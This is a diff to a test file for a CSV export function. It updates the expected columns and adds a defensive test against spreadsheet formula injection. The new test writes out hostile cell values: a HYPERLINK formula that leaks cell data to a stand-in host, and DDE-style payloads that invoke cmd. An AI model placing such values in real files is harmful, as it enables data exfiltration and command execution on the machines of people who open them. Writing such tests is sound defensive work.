@@ -63,12 +63,12 @@ describe('toCsv', () => {
     const csv = toCsv(
       [{ key: 'p:1', type: 'person', name: 'Smith, "Jo"', aliases: ['J. Smith'], kind: null, articles: 2, country: null, lat: null, lon: null, date: null },
         { key: 'o:1', type: 'organization', name: 'MI5', aliases: [], kind: 'agency', articles: 3, country: 'GB', lat: null, lon: null, date: null }],
-      [{ id: 'ROLE:p:1:o:1', type: 'ROLE', from: 'p:1', to: 'o:1', label: 'officer', weight: 2, outlets: 1 }],
+      [{ id: 'ROLE:p:1:o:1', type: 'ROLE', from: 'p:1', to: 'o:1', label: 'officer', weight: 2, independent: 1, outlets: 1 }],
     );
     const lines = csv.trimEnd().split('\r\n');
     expect(lines).toHaveLength(4);
-    expect(lines[1]).toBe('node,p:1,person,"Smith, ""Jo""",,,,J. Smith,,,,,2,');
-    expect(lines[3]).toBe('edge,ROLE:p:1:o:1,ROLE,officer,,,,,p:1,o:1,"Smith, ""Jo""",MI5,2,1');
+    expect(lines[1]).toBe('node,p:1,person,"Smith, ""Jo""",,,,J. Smith,,,,,2,,');
+    expect(lines[3]).toBe('edge,ROLE:p:1:o:1,ROLE,officer,,,,,p:1,o:1,"Smith, ""Jo""",MI5,2,1,1');
   });
 });
 
@@ -80,5 +80,25 @@ describe('highlightRuns', () => {
     expect(runs.map((r) => [r.text, r.span !== null])).toEqual([
       ['Alan Prewitt', true], [' of ', false], ['West Yorkshire Police', true],
     ]);
+  });
+});
+
+describe('toCsv and spreadsheet formulas (defect 10)', () => {
+  it('neutralises cells a spreadsheet would run as a formula (= + - @ tab CR), text from articles included', () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
+    const csv = toCsv(
+      names.map((name, i) => ({ key: `p:${i}`, type: 'person' as const, name, aliases: ['=1+1'], kind: null, articles: 1, country: null, lat: null, lon: null, date: null })),
+      [{ id: 'ROLE:p:0:p:1', type: 'ROLE', from: 'p:0', to: 'p:1', label: '=cmd()', weight: 1, independent: 1, outlets: 1 }],
+    );
+    // every field that is not a number starts with a character no spreadsheet evaluates
+    const fields = csv.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm) ?? [];
+    expect(fields.length).toBeGreaterThan(50);
+    for (const f of fields) {
+      const value = f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f;
+      if (/^-?\d+$/.test(value)) continue;
+      expect(value, `cell ${JSON.stringify(value)}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(csv).toContain(`'=HYPERLINK`);
+    expect(csv).toContain(`'=cmd()`);
   });
 });
